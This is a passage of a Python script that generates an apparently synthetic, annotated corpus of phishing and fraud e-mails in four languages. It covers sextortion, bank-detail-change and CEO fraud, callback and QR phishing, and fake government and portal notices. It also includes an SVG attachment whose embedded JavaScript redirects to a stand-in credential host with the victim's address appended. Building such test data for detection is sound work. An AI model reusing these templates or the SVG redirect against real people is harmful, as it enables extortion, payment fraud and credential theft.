bc1q7v3m0xk9d2yqf8h5ltw4cz6ejn0pr9ua2gs7xk

Sie haben 48 Stunden ab dem Öffnen dieser Nachricht. Ich sehe, wann Sie sie gelesen haben. Nach Zahlungseingang lösche ich alle Daten und Sie hören nie wieder von mir. Andernfalls wird das Material an alle Ihre Kontakte verschickt.

Antworten Sie nicht auf diese E-Mail und wenden Sie sich nicht an die Polizei – ich würde es sofort merken.
""",
  what="Sextortion / extortion with Bitcoin address; From and Return-Path forged to the recipient's own address.",
  why="Extortion template; own-domain sender arriving from an external IP without rDNS/TLS (spoofed internal sender), Bitcoin wallet, threat and deadline.")

# --------------------------------------------------------------- English --
M(kind=A, slug="conveyancing-completion-funds-lookalike", lang="en", cs="utf-8", cte="quoted-printable",
  frm=("Rebecca Hale", "r.hale@harrington-law.co.uk"), to=[S["uk_md"]],
  dt="2026-11-18 16:02:33", tz="+0000", mx=EXO("EUR01-HE1", "he1eur01on2095", "40.107.13.95"), client="exo", auto_html="exo",
  up=[U_exo()], irt="<b7e2d4c19a0f4b6e8c3d5a7f1e9b2c40@EXMBX02.corp.example.com>",
  subject="RE: Completion – 14 Abbey Mews, London NW8 – funds",
  text="""Dear James,

Further to my email of last week, please note that our firm's client account details have changed following our migration to a new banking provider as part of our SRA-approved treasury review. The NatWest client account referred to in our client care letter is now closed for incoming receipts.

For the balance of completion monies (£1,186,450.00) due before 12 noon on Thursday, please use the following details:

Account name: Harrington Law LLP Client Account
Sort code: 60-83-71
Account number: 19284756
IBAN: %s

The attached letter on our letterhead confirms the above. Please do not use any previous details, as funds sent there will be returned and completion may be delayed, which could put you in breach of contract.

I am in a completion meeting for most of today, so email is the best way to reach me. Kindly confirm by return once the transfer has been initiated so I can notify the seller's solicitors.

Kind regards,

Rebecca Hale
Partner – Real Estate
Harrington Law LLP
""" % fi(GB_FAKE),
  atts=[pdf("Harrington_Law_Client_Account_Notice.pdf", "Harrington Law LLP - Notice of change of client account",
            ["Dear Client,", "Please note our client account details have changed with immediate effect.",
             "Account name: Harrington Law LLP Client Account", "Sort code 60-83-71  Account 19284756",
             "IBAN " + fi(GB_FAKE), "", "Rebecca Hale, Partner"], "Rebecca Hale", when="20261118154010Z")],
  what="Conveyancing/completion-funds fraud: look-alike domain harrington-law.co.uk (genuine: harringtonlaw.co.uk) redirects £1.19m completion money to a challenger-bank account.",
  why="Classic UK property fraud; look-alike domain, bank change mid-transaction, 'email is the best way to reach me', genuine solicitor (business/09) stated its details will never change.")

M(kind=A, slug="callback-m365-renewal-gmail", lang="en", cs="utf-8", cte="base64",
  frm=("Billing Support Centre", "mds.billingcentre7741@gmail.com"), to=[S["uk_acc"]],
  dt="2026-11-02 11:36:18", tz="+0000", mx=GM("ej1-f47", "209.85.218.47"), client="gmail", auto_html="gmail",
  up=[U_gmail("mail-ej1-f47.google.com")],
  subject="Order Confirmation MS-365-UK-8847120 – Renewal processed",
  text="""Dear Customer,

Thank you for your continued subscription. Your annual plan has been renewed successfully and the payment has been processed from the card on file.

Order number: MS-365-UK-8847120
Product: Microsoft 365 Business Premium (25 licences, 12 months)
Amount charged: £1,249.99 (incl. VAT)
Renewal date: 02/11/2026

The invoice is attached for your records.

If you did not authorise this renewal or wish to cancel, please contact our billing desk within 24 hours on +44 20 3868 1942 (Mon–Sat, 8am–8pm). Refunds can only be issued within this period.

Kind regards,
Billing Support Centre
""",
  atts=[pdf("Invoice_MS-365-UK-8847120.pdf", "INVOICE MS-365-UK-8847120",
            ["Microsoft 365 Business Premium x 25", "Amount charged: GBP 1,249.99", "",
             "Did not authorise this payment? Call +44 20 3868 1942 within 24 hours for a full refund."], "Billing", when="20261102113001Z")],
  what="Callback phishing (TOAD): fake Microsoft 365 renewal invoice from Gmail with a PDF, urging a phone call to 'cancel'.",
  why="No link or malware – the attack happens on the phone (remote-access tool / card data); brand invoice from a free mailer, phone number in body and PDF, 24-hour refund window.")

M(kind=A, slug="sharepoint-share-compromised-agent", lang="en", cs="utf-8", cte="quoted-printable",
  frm=("Olivia Grant", "olivia.grant@hollandparkestates.co.uk"), to=[S["uk_acc"]], cc=[S["uk_md"]],
  dt="2026-11-26 13:20:51", tz="+0000", mx=EXO("EUR03-AM7", "am7eur03on2128", "40.107.105.128"), client="exo",
  up=[U_exo()],
  subject='Olivia Grant shared "Q4 Service Charge Reconciliation - Example Group.pdf" with you',
  html=notif("SharePoint", "#036c70",
             '<p style="font-size:16px"><b>Olivia Grant</b> shared a file with you</p>'
             '<p>Hi Sarah, as discussed please find the Q4 service charge reconciliation for Wharfside Court and Abbey Mews ahead of the year-end. Let me know if anything needs adjusting before we issue the demands.</p>'
             '<table style="border:1px solid #e1e1e1;padding:12px;margin:12px 0"><tr><td style="font-size:28px;color:#c43e1c;padding-right:12px">&#128196;</td>'
             '<td><b>Q4 Service Charge Reconciliation - Example Group.pdf</b><br><span style="color:#888">This link will work for anyone at example.com</span></td></tr></table>',
             ("Open", "https://sharepoint-hpe-docs.olivia-grant.workers.dev/personal/olivia_grant/Documents/?e=c2FyYWguY29sbGluc0BleGFtcGxlLmNvbQ=="),
             'Microsoft respects your privacy. To learn more, please read our <a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a>.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052',
             "en", '<span style="font-weight:normal">SharePoint</span>'),
  what="File-share lure sent from the genuinely compromised Microsoft 365 mailbox of a London estate agent; 'Open' leads to a credential page on Cloudflare workers.dev.",
  why="Sender domain and infrastructure are real (compromised), only the link destination betrays it: not *.sharepoint.com but a workers.dev host with the recipient's address base64-encoded in the URL.")

QR_URL = "https://login.examplegroup-it.com/mfa/enroll?u=giulia.romano%40example.com&t=8f3a2c"
M(kind=A, slug="qr-mfa-reenrolment-fake-it", lang="en", cs="utf-8", cte="base64",
  frm=("Example Group IT Service Desk", "it-servicedesk@examplegroup-it.com"), to=[S["it_cm"]],
  rp="0102019a4c7e2f1b-3d5e8a71-9c2b-4f6e-b1d3-7a8c9e0f1a2b-000000@eu-west-1.amazonses.com",
  dt="2026-11-13 08:05:40", tz="+0000", mx=("a7-21.smtp-out.eu-west-1.amazonses.com", "a7-21.smtp-out.eu-west-1.amazonses.com", "54.240.7.21"), client="ses",
  subject="Action required: Microsoft Authenticator re-registration before 20 November",
  html="""<html><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">
<p>Dear Giulia,</p>
<p>As announced by Tobias Lang, Example Group is moving all accounts to Microsoft Authenticator with number matching. Your account <b>giulia.romano@example.com</b> has not yet been re-registered.</p>
<p>Please scan the QR code below with the <b>camera of your mobile phone</b> (not the Authenticator app) and follow the instructions. The process takes about two minutes.</p>
<p><img src="cid:mfa-qr-8f3a2c@examplegroup-it.com" width="222" height="222" alt="QR code"></p>
<p>Accounts that have not completed re-registration by <b>20 November 2026</b> will be temporarily blocked from Outlook and Teams until re-enrolled by the Service Desk.</p>
<p>Kind regards,<br>IT Service Desk<br>Example Group | Frankfurt am Main</p>
<p style="color:#999;font-size:11px">This is an automated message. Ref. MFA-2026-11-8F3A2C</p>
</body></html>
""",
  inline=[("mfa-qr-8f3a2c@examplegroup-it.com", "qrcode.png", "image/png", qr_png(QR_URL))],
  what="QR-code phishing (quishing): fake internal IT message from the look-alike examplegroup-it.com via Amazon SES with an inline QR code (decodes to a fake MFA enrolment page).",
  why="URL only inside an image, asks to scan with the phone camera (leaves the protected device), mimics the real MFA rollout announced internally (business/14), external look-alike domain, blocking threat.")

M(kind=A, slug="companies-house-confirmation-statement", lang="en", cs="iso-8859-1", cte="quoted-printable",
  frm=("Companies House", "noreply@companieshouse-filing.co.uk"), to=[S["uk_md"]],
  dt="2026-11-30 10:11:26", tz="+0000", mx=("mail.companieshouse-filing.co.uk", "unknown", "45.137.21.8", "tls12"), client="phpmailer",
  html_only=True,
  subject="Confirmation statement overdue: EXAMPLE GROUP UK LIMITED (10938472)",
  html=notif("GOV.UK", "#0b0c0c",
             "<p><b>Companies House</b></p><p>Company name: EXAMPLE GROUP UK LIMITED<br>Company number: 10938472</p>"
             "<p>Our records show that the confirmation statement made up to 18 October 2026 has not been delivered. The filing deadline was 1 November 2026.</p>"
             "<p>Failure to deliver a confirmation statement is a criminal offence and may lead to the company being struck off the register. Under the Economic Crime and Corporate Transparency Act 2023 the directors may also receive a financial penalty.</p>"
             "<p>To avoid further action, file the statement online within <b>5 days</b>. You will need to sign in with GOV.UK One Login and your company authentication code.</p>",
             ("File confirmation statement", "https://companieshouse-filing.co.uk/confirmation-statement/10938472/start"),
             "Companies House, Crown Way, Cardiff, CF14 3UZ<br>This is an automated email, please do not reply.", "en",
             '<span style="font-family:Arial">&#128081; GOV.UK</span>'),
  what="Fake Companies House overdue-filing notice (HTML only) linking to a fake GOV.UK One Login page.",
  why="Government brand on a non-gov.uk domain, PHPMailer from an IP without rDNS, criminal-offence threat and 5-day deadline; real reminders come from companieshouse.gov.uk.")

M(kind=A, slug="gift-cards-ceo-outlookcom", lang="en", cs="utf-8", cte="quoted-printable",
  frm=("Markus Hoffmann", "markus.hoffmann.ceo@outlook.com"), to=[S["office"]],
  dt="2026-12-01 08:52:14", mx=OUTLOOKCOM, client="outlookcom", auto_html="outlookcom",
  up=[U_exo()],
  subject="Quick favour",
  text="""Katrin,

Are you at your desk? I'm in back-to-back meetings with the Versorgungskammer people all morning and can't take calls.

I want to thank the facility teams in Warsaw and Milan for getting the year-end inspections done so quickly. Could you pick up 10 Apple gift cards of €100 each (at Saturn or online) and send me photos of the codes on the back here? Please keep it to yourself for now, it's meant as a surprise at the Christmas call.

I'll sort the expense claim with Claudia afterwards.

Thanks,
Markus

Sent from Outlook for iOS
""",
  what="Gift-card scam impersonating the CEO from an outlook.com free-mail address to his assistant.",
  why="Executive impersonation via free mailer, gift-card codes requested by photo, secrecy, unreachable by phone; plain language with few spam markers.")

SVG_TARGET = "https://vm-playback-eu.com/listen/?m=44207946&u="
M(kind=A, slug="voicemail-svg-attachment", lang="en", cs="utf-8", cte="quoted-printable",
  frm=("Teams Voicemail", "voicemail@dentalcare-bristol.co.uk"), to=[S["uk_md"]],
  dt="2026-11-19 14:48:09", tz="+0000", mx=("s189.uk-cloudhost.net", "s189.uk-cloudhost.net", "185.211.4.189", "tls12"), client="phpmailer",
  up=[U_local("s189.uk-cloudhost.net (Postfix)", "ESMTP")],
  subject="You received a voice message from +44 20 7946 0813 (00:47)",
  text="""Voice message

From: +44 20 7946 0813
Received: Thursday, 19 November 2026 14:47
Duration: 00:47

The audio message is attached. Open the attachment to play it in your browser.

Microsoft Teams Voicemail
""",
  html="""<html><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px">
<table style="border-left:4px solid #4b53bc;padding-left:12px"><tr><td>
<p style="font-size:18px;margin:0"><b>Voice message</b></p>
<p>From: +44 20 7946 0813<br>Received: Thursday, 19 November 2026 14:47<br>Duration: 00:47</p>
<p>The audio message is attached. Open the attachment to play it in your browser.</p>
<p style="color:#888;font-size:11px">Microsoft Teams Voicemail</p></td></tr></table></body></html>
""",
  atts=[("VM_Play_00m47s.svg", "image/svg+xml", ("""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="420" height="120" viewBox="0 0 420 120">
<rect width="420" height="120" rx="10" fill="#4b53bc"/>
<text x="30" y="68" font-family="Segoe UI,Arial" font-size="22" fill="#fff">&#9654; Play voice message (00:47)</text>
<script type="text/javascript"><![CDATA[
/* evaluation sample - the target host is fictitious */
var t = atob("%s");
window.location.href = t + "james.whitfield" + "@" + "example.com";
]]></script>
</svg>
""" % base64.b64encode(SVG_TARGET.encode()).decode()).encode("utf-8"))],
  what="Voicemail lure with an SVG attachment containing JavaScript that redirects to a credential page (2025/26 SVG-smuggling technique); sent via a compromised dental practice's hosting.",
  why="SVG with <script> and atob() redirect, recipient address appended, unrelated compromised sender domain, Teams branding from a non-Microsoft server.")

M(kind=A, slug="secure-message-portal-insurer-compromised", lang="en", cs="utf-8", cte="quoted-printable",
  frm=("Daniel Morris", "d.morris@albion-pib.co.uk"), to=[S["uk_acc"]],
  dt="2026-12-03 09:40:37", tz="+0000", mx=EXO("EUR01-DB5", "db5eur01on2107", "40.107.15.107"), client="exo", auto_html="exo",
  up=[U_exo()],
  subject="Encrypted: Buildings insurance renewal 01/01/2027 – premium schedule and revised sums insured",
  text="""Good morning Sarah,

Ahead of the 1 January renewal I have sent you the updated premium schedule and the revised sums insured for the UK portfolio following the reinstatement cost assessments.

As the documents contain policy and claims data they have been sent via our secure message service:

View secure message: https://express.adobe.com/page/Xk3LpQ9sT2aVb/

Please review and let me know by Friday whether you are happy for us to bind cover on this basis; insurers have confirmed the terms until 11 December only.

Kind regards

Daniel Morris Cert CII
Account Executive – Commercial Property
Albion Property Insurance Brokers Ltd
Authorised and regulated by the Financial Conduct Authority
""",
  what="Fake 'encrypted message' from the compromised mailbox of an insurance broker; link to an Adobe Express page that fronts a credential-harvesting site.",
  why="Abuse of a trusted free publishing service as first hop, 'secure message' pretext, time pressure; real broker portals do not live on express.adobe.com.")

# --------------------------------------------------------------- Italian --
M(kind=A, slug="ferretti-lookalike-variazione-iban", lang="it", cs="iso-8859-15", cte="quoted-printable",
  frm=("Chiara Colombo", "c.colombo@ferretti-trasporti.com"), to=[S["it_acc"]],
  dt="2026-11-19 11:15:03", mx=("sender4-op-o12.zoho.eu", "sender4-op-o12.zoho.eu", "136.143.169.12"), client="zoho",
  subject="R: Fattura n. 1187/2026 - trasloco archivi via Tortona",
  text="""Gentile dott. Bianchi,

a seguito dell'integrazione della nostra filiale di Piacenza abbiamo trasferito la tesoreria su un nuovo conto dedicato agli incassi.

Le chiediamo cortesemente di disporre il pagamento della fattura in oggetto (€ 7.320,00 IVA inclusa) e delle successive sulle nuove coordinate:

Intestatario: Ferretti Trasporti S.p.A.
IBAN: %s
Banca Sella S.p.A. - filiale di Milano

Alleghiamo la comunicazione su carta intestata firmata dall'Amministratore Delegato. La preghiamo di non utilizzare più le coordinate presso Intesa Sanpaolo, in fase di estinzione: eventuali bonifici verrebbero stornati con ritardo.

Le sarei grata se potesse confermarmi l'aggiornamento dell'anagrafica fornitori.

Cordiali saluti

Chiara Colombo
Ufficio Commerciale
Ferretti Trasporti S.p.A.
Via dell'Industria 14 - 20098 San Giuliano Milanese (MI)
""" % fi(FERR_FAKE),
  atts=[pdf("Comunicazione_variazione_coordinate_bancarie.pdf", "Ferretti Trasporti S.p.A. - Variazione coordinate bancarie",
            ["Spett.le Cliente,", "si comunica che con effetto immediato le coordinate per i pagamenti sono:", "IBAN " + fi(FERR_FAKE),
             "Banca Sella S.p.A.", "", "L'Amministratore Delegato"], "Amministrazione", when="20261118172200+01'00'")],
  what="Supplier bank-detail change for Ferretti Trasporti from ferretti-trasporti.com (genuine: .it) hosted on Zoho, quoting a real invoice number.",
  why="Look-alike TLD, new account at a different bank, 'old account being closed', asks AP to update vendor master; genuine Ferretti (business/17, 18) uses Intesa Sanpaolo and the .it domain.")

M(kind=A, slug="agenzia-entrate-avviso-zip", lang="it", cs="iso-8859-1", cte="base64",
  frm=("Agenzia delle Entrate - Direzione Provinciale di Milano", "avvisi@agenzia-entrate-notifiche.it"), to=[S["it_cm"]],
  rp="wordpress@trattoria-dalmoro.it",
  dt="2026-11-06 09:02:41", mx=("vps-3b21.serverplan.it", "vps-3b21.serverplan.it", "94.177.203.41", "tls12"), client="phpmailer",
  up=[U_local("vps-3b21.serverplan.it (Postfix)")],
  subject="Comunicazione di irregolarità - avviso n. 2026/MI/0047713 - imposta di registro locazioni",
  text="""Gentile contribuente,

dall'esame dei dati relativi ai contratti di locazione registrati per l'annualità 2025 è emerso il mancato o insufficiente versamento dell'imposta di registro per le annualità successive alla prima (codice tributo 1501) relativamente agli immobili intestati alla Sua società.

Ai sensi dell'art. 2 del D.Lgs. 462/1997 è possibile regolarizzare la posizione entro 30 giorni dal ricevimento della presente comunicazione, beneficiando della riduzione della sanzione a un terzo.

In allegato trasmettiamo l'avviso completo con il prospetto di calcolo degli importi dovuti e il modello F24 precompilato. Il file è protetto; codice di apertura: AE0047713.

Per eventuali chiarimenti può rivolgersi a un ufficio territoriale dell'Agenzia previo appuntamento.

Distinti saluti

Il Direttore Provinciale
Agenzia delle Entrate - Direzione Provinciale di Milano
""",
  atts=[("Avviso_2026_MI_0047713.zip", "application/zip",
         make_zip([("Avviso_2026_MI_0047713.pdf.js", "// " + PLACEHOLDER), ("F24_precompilato.pdf.vbs", "' " + PLACEHOLDER)], (2026, 11, 6, 8, 40, 0)))],
  what="Fake Agenzia delle Entrate notice on rental registration tax with a password-protected ZIP (inert .pdf.js/.pdf.vbs placeholders), mailed by a hacked restaurant WordPress site.",
  why="Tax authority on a non-gov domain (real: agenziaentrate.gov.it / PEC), archive with script files and password in text, Return-Path of an unrelated WordPress host.")

M(kind=A, slug="pec-casella-piena-firebase", lang="it", cs="utf-8", cte="quoted-printable",
  frm=("Aruba PEC", "notifiche@arubapec-servizi.it"), to=[S["it_acc"]],
  rp="bounce+7f3a21.b8c4e2-marco.bianchi=example.com@mg.arubapec-servizi.it",
  dt="2026-11-25 07:55:11", mx=("m228-12.mailgun.net", "m228-12.mailgun.net", "159.135.228.12"), client="bulk", msgid_domain="mg.arubapec-servizi.it",
  html_only=True,
  subject="Casella PEC quasi piena: 98% dello spazio utilizzato",
  html=notif("Aruba PEC", "#e4032e",
             "<p>Gentile Cliente,</p><p>la casella di Posta Elettronica Certificata associata al tuo indirizzo <b>marco.bianchi@example.com</b> ha raggiunto il <b>98%</b> dello spazio disponibile.</p>"
             "<p>Al raggiungimento del 100% i nuovi messaggi PEC, incluse notifiche di atti e comunicazioni dell'Agenzia delle Entrate, verranno <b>respinti al mittente</b> con avviso di mancata consegna, con possibili conseguenze legali.</p>"
             "<p>Puoi liberare spazio o attivare gratuitamente l'archivio aggiuntivo da 2 GB accedendo al pannello:</p>",
             ("Gestisci spazio casella", "https://webmail-pec-aruba.firebaseapp.com/login?casella=marco.bianchi%40example.com"),
             "Aruba S.p.A. - Via San Clemente 53 - 24036 Ponte San Pietro (BG) - P.IVA 01573850516<br>Questo messaggio è generato automaticamente, non rispondere.", "it"),
  what="Fake Aruba PEC 'mailbox almost full' notice via Mailgun, link to a Firebase-hosted login clone.",
  why="Brand lure on look-alike domain, abuse of firebaseapp.com hosting, fear of losing legally binding PEC notices; HTML-only.")

M(kind=A, slug="ceo-fraud-notaio-lookalike", lang="it", cs="utf-8", cte="quoted-printable",
  frm=("Markus Hoffmann", "markus.hoffmann@example-group.eu"), to=[S["it_cm"]],
  dt="2026-12-02 08:37:26", mx=("mail.example-group.eu", "static.44.12.198.88.clients.your-server.de", "88.198.12.44"), client="iphone", msgid_domain="example-group.eu",
  up=[U_sa("mail.example-group.eu", "5.181.234.90", "unknown", helo="[172.20.10.3]")],
  subject="Riservato – acquisizione immobile via Solari",
  text="""Giulia, buongiorno.

Ti scrivo in via riservata: stiamo chiudendo l'acquisto dell'immobile di via Solari e il notaio del venditore richiede entro oggi un deposito cauzionale di € 385.000 sul conto vincolato dello studio, altrimenti il venditore passa all'altra offerta.

Ti chiedo di non parlarne con nessuno, nemmeno con Marco o con Francoforte, finché non esce il comunicato: è una condizione dell'accordo di riservatezza.

A breve riceverai una mail dall'avv. Ruggeri dello studio con gli estremi del bonifico. Riesci a gestirlo tu dalla banca italiana stamattina? Sono in riunione tutto il giorno, scrivimi qui appena fatto.

Grazie,
Markus

Inviato da iPhone
""",
  what="CEO fraud in Italian from the look-alike domain example-group.eu (hyphen) asking the country manager for a confidential €385k transfer.",
  why="Executive impersonation, look-alike of examplegroup.eu on a Hetzner server, secrecy towards colleagues/HQ, deadline, third-party 'lawyer' to follow.")

M(kind=A, slug="pagopa-tari-pdf", lang="it", cs="iso-8859-15", cte="base64",
  frm=("Comune di Milano - Servizio Tributi", "tributi@comune-milano-pagopa.it"), to=[S["it_acc"]],
  dt="2026-11-27 10:30:48", mx=("smtp-relay.comune-milano-pagopa.it", "185.41.28.133.static.clienti.hostingfacile.it", "185.41.28.133", "tls12"), client="generic",
  subject="Avviso di pagamento TARI 2026 - saldo - codice avviso 3010 0000 4477 1235 88",
  text="""Gentile contribuente,

le inviamo l'avviso di pagamento della Tassa sui rifiuti (TARI) 2026, rata a saldo, relativo all'utenza non domestica di via Tortona 27, Milano (categoria 14 - uffici, agenzie).

Importo: € 4.812,00
Scadenza: 02/12/2026
Codice avviso pagoPA: 3010 0000 4477 1235 88

Il pagamento può essere effettuato tramite il circuito pagoPA inquadrando il QR code presente nell'avviso allegato, oppure con bonifico sul conto di tesoreria indicato nel documento. In caso di mancato pagamento entro la scadenza saranno applicati sanzioni e interessi ai sensi del Regolamento comunale.

Cordiali saluti
Comune di Milano - Area Tributi
""",
  atts=[pdf("Avviso_TARI_2026_saldo_30100000447712358.pdf", "Comune di Milano - Avviso di pagamento TARI 2026",
            ["Utenza: via Tortona 27 - categoria 14", "Importo: EUR 4.812,00 - scadenza 02/12/2026",
             "Paga online: https://pagopa-comune-milano.it/paga?av=301000004477123588",
             "Bonifico: IBAN " + fi(TARI_FAKE), "Intestato a: Tesoreria Servizi Tributi"], "Area Tributi", when="20261127101500+01'00'")],
  what="Fake municipal waste-tax (TARI) pagoPA notice with a PDF that carries a payment link and an IBAN in a private name.",
  why="Invoice fraud impersonating the municipality on a non-comune.milano.it domain; PDF payment link to a look-alike pagoPA domain; 'Tesoreria' IBAN at a neobank.")

# ---------------------------------------------------------------- Polish --
M(kind=A, slug="partner-logistik-lookalike-zmiana-rachunku", lang="pl", cs="iso-8859-2", cte="quoted-printable",
  frm=("Tadeusz Zieliński", "t.zielinski@partner-logistik.com.pl"), to=[S["pl_acc"]],
  dt="2026-11-12 09:47:15", mx=("mail.partner-logistik.com.pl", "vps-2c8f19a4.vps.ovh.net", "146.59.42.17", "tls12"), client="outlook",
  up=[U_sa("mail.partner-logistik.com.pl", "31.13.191.66", "unknown", helo="DESKTOP-LK83QPA")],
  subject="Zmiana rachunku bankowego - Partner Logistik sp. z o.o.",
  text="""Szanowny Panie Piotrze,

uprzejmie informuję, że w związku z migracją obsługi bankowej naszej spółki z dniem 15.11.2026 r. zmianie ulega rachunek bankowy, na który prosimy regulować należności.

Nowy rachunek:
Partner Logistik sp. z o.o.
%s
Bank Millennium S.A.

Rachunek zostanie zgłoszony do wykazu podatników VAT (tzw. biała lista) w ciągu 3 dni roboczych; do tego czasu prosimy o realizację przelewów na podstawie niniejszego pisma. Zawiadomienie podpisane przez Zarząd przesyłam w załączniku.

Jednocześnie prosimy o uregulowanie faktury FV/2026/10/0291 na kwotę 23 418,60 zł na nowy rachunek.

Z poważaniem

Tadeusz Zieliński
Dyrektor Operacyjny
Partner Logistik sp. z o.o.
ul. Annopol 4A, 03-236 Warszawa
""" % fi(PL_FAKE1),
  atts=[pdf("Zawiadomienie_zmiana_rachunku.pdf", "Partner Logistik sp. z o.o. - zawiadomienie o zmianie rachunku",
            ["Warszawa, 10.11.2026", "Nowy rachunek bankowy: " + fi(PL_FAKE1), "Bank Millennium S.A.", "", "Zarzad Spolki"], "Zarzad", when="20261110140000+01'00'")],
  what="Bank-account change for Partner Logistik from the look-alike domain partner-logistik.com.pl, with a 'board letter' PDF.",
  why="Look-alike domain on an OVH VPS; asks to pay although the account is admittedly not on the VAT white list (biała lista) – a red flag in Poland; genuine Pekao account in business/22.")

M(kind=A, slug="ksef-faktura-weryfikacja", lang="pl", cs="windows-1250", cte="quoted-printable",
  frm=("Krajowy System e-Faktur (KSeF)", "powiadomienia@ksef-mf.com.pl"), to=[S["pl_acc"]],
  dt="2026-11-20 12:03:58", mx=("mail2.ksef-mf.com.pl", "unknown", "193.233.48.76", "tls12"), client="bulk", msgid_domain="ksef-mf.com.pl",
  subject="KSeF: otrzymano fakturę FA/1289/11/2026 – wymagana weryfikacja odbiorcy",
  html=notif("Krajowy System e-Faktur", "#c8102e",
             "<p>Szanowni Państwo,</p><p>w Krajowym Systemie e-Faktur zarejestrowano fakturę ustrukturyzowaną wystawioną dla podmiotu <b>Example Group Polska sp. z o.o.</b> (NIP %s):</p>"
             "<p>Numer faktury: FA/1289/11/2026<br>Numer KSeF: 5252814467-20261120-4C1A9E22F7B3-0D<br>Kwota brutto: 38 745,90 zł</p>"
             "<p>Ze względu na zmianę uprawnień w systemie wymagane jest jednorazowe potwierdzenie tożsamości odbiorcy. Do czasu weryfikacji faktura nie będzie widoczna w Aplikacji Podatnika KSeF, a termin płatności biegnie od daty wystawienia.</p>" % PL_NIP_EXG,
             ("Pobierz fakturę i zweryfikuj", "https://ksef-mf.com.pl/web/faktura/pobierz?id=4C1A9E22F7B3&nip=%s" % PL_NIP_EXG),
             "Ministerstwo Finansów – Krajowa Administracja Skarbowa<br>Wiadomość wygenerowana automatycznie. Prosimy nie odpowiadać.", "pl",
             "KSeF <span style='font-weight:normal'>Krajowy System e-Faktur</span>"),
  what="KSeF (Polish national e-invoice system, mandatory since 2026) phishing: 'new structured invoice, verify recipient' link to a fake login.",
  why="KSeF does not e-mail invoices or ask for identity verification by link; look-alike domain ksef-mf.com.pl on an IP without rDNS; topical lure for 2026.")

M(kind=A, slug="otodom-weryfikacja-konta", lang="pl", cs="utf-8", cte="base64",
  frm=("Otodom", "powiadomienia@otodom-partner.pl"), to=[S["pl_pm"]],
  rp="bounce+2c7e1f.9a31d4-katarzyna.nowak=example.com@mg.otodom-partner.pl",
  dt="2026-11-04 16:20:03", mx=("m42-117.mailgun.net", "m42-117.mailgun.net", "159.135.42.117"), client="bulk", msgid_domain="mg.otodom-partner.pl",
  html_only=True,
  subject="Twoje ogłoszenia zostaną wyłączone – potwierdź dane konta firmowego",
  html=notif("Otodom", "#2e1a5e",
             "<p>Dzień dobry,</p><p>w ramach dostosowania do rozporządzenia DSA (Akt o usługach cyfrowych) wszystkie konta profesjonalne muszą potwierdzić dane firmy i osoby uprawnionej do publikacji ogłoszeń.</p>"
             "<p>Na Twoim koncie <b>katarzyna.nowak@example.com</b> jest <b>14 aktywnych ogłoszeń</b>. Jeśli dane nie zostaną potwierdzone do <b>7 listopada 2026</b>, ogłoszenia zostaną wyłączone, a opłacone promowania nie będą zwracane.</p>",
             ("Potwierdź dane firmy", "https://otodom-partner.pl/konto/weryfikacja-dsa?ref=kn-4471"),
             "Otodom, Grupa OLX sp. z o.o., ul. Królowej Jadwigi 43, 61-872 Poznań", "pl"),
  what="Fake Otodom property-portal 'DSA verification' lure (HTML-only via Mailgun) aimed at the Warsaw property manager.",
  why="Brand look-alike domain otodom-partner.pl, regulatory pretext (DSA), 3-day deadline with financial loss; genuine Otodom mail is from otodom.pl (business/24).")

M(kind=A, slug="zapytanie-ofertowe-zip-compromised", lang="pl", cs="iso-8859-2", cte="base64",
  frm=("Marek Dąbrowski | BUDMAX", "m.dabrowski@budmax-instal.pl"), to=[S["pl_pm"]],
  dt="2026-11-10 08:14:22", mx=("s36.linuxpl.com", "s36.linuxpl.com", "46.242.244.36", "tls12"), client="roundcube",
  up=[U_sa("s36.linuxpl.com", "193.176.86.201", "unknown", helo="[127.0.0.1]")],
  subject="Zapytanie ofertowe - najem ok. 850 m2 powierzchni biurowej (Mokotów)",
  text="""Dzień dobry,

w imieniu naszego klienta, spółki z branży medycznej, poszukujemy powierzchni biurowej ok. 850 m2 na Mokotowie lub Służewcu, z możliwością wejścia od 1 kwietnia 2027 r., umowa na 5 lat.

W załączniku przesyłam szczegółowe wymagania techniczne, rzut z preferowanym układem pomieszczeń oraz harmonogram. Ze względu na poufność projektu archiwum jest zabezpieczone hasłem: Budmax2026

Prosimy o ofertę wraz z wysokością czynszu, opłat eksploatacyjnych i proponowanym okresem bezczynszowym do 20 listopada.

Z poważaniem

Marek Dąbrowski
Kierownik Projektów
BUDMAX Instalacje sp. z o.o.
tel. 501 338 417
""",
  atts=[("Zapytanie_ofertowe_Mokotow_850m2.zip", "application/zip",
         make_zip([("Zapytanie_ofertowe_Mokotow_850m2.pdf.exe", PLACEHOLDER), ("Rzut_parter.img", PLACEHOLDER)], (2026, 11, 9, 17, 3, 0)))],
  what="Request-for-quote lure (common in Poland) from a compromised building-services company's mailbox, with a password-protected ZIP containing inert .pdf.exe/.img placeholders.",
  why="Malware dropper: executable with double extension in encrypted archive, password in body, webmail login from a foreign VPS; plausible leasing enquiry as pretext.")

M(kind=A, slug="partner-logistik-przejete-konto-reply-to", lang="pl", cs="utf-8", cte="quoted-printable",
  frm=("Księgowość Partner Logistik", "ksiegowosc@partner-logistik.pl"), to=[S["pl_acc"]],
  reply_to=("Księgowość Partner Logistik", "ksiegowosc.partnerlogistik@outlook.com"),
  dt="2026-11-25 13:51:27", mx=("mail.partner-logistik.pl", "mail.partner-logistik.pl", "79.96.171.44", "tls12"), client="roundcube",
  up=[U_sa("mail.partner-logistik.pl", "102.89.45.113", "unknown", helo="[102.89.45.113]")],
  irt="<9b1f0c2e7a4d4e11a3c5b7d9e0f21a44@EXMBX02.corp.example.com>",
  subject="RE: Faktura FV/2026/11/0347 - Partner Logistik sp. z o.o.",
  text="""Dzień dobry Panie Piotrze,

dziękujemy za informację o planowanym terminie płatności.

Uprzejmie prosimy o wstrzymanie przelewu na dotychczasowy rachunek w Pekao – do 30.11 trwa audyt rachunku po zmianie zarządu i wpływy są tymczasowo blokowane przez bank. Prosimy o realizację płatności za fakturę FV/2026/11/0347 (23 418,60 zł) na rachunek pomocniczy spółki:

%s (mBank S.A.)

Po zakończeniu audytu wrócimy do standardowego rachunku, o czym poinformujemy odrębnie. Prosimy o przesłanie potwierdzenia przelewu w odpowiedzi na tę wiadomość.

Z poważaniem
Ewa Kamińska
Dział Księgowości
Partner Logistik sp. z o.o.

-----Original Message-----
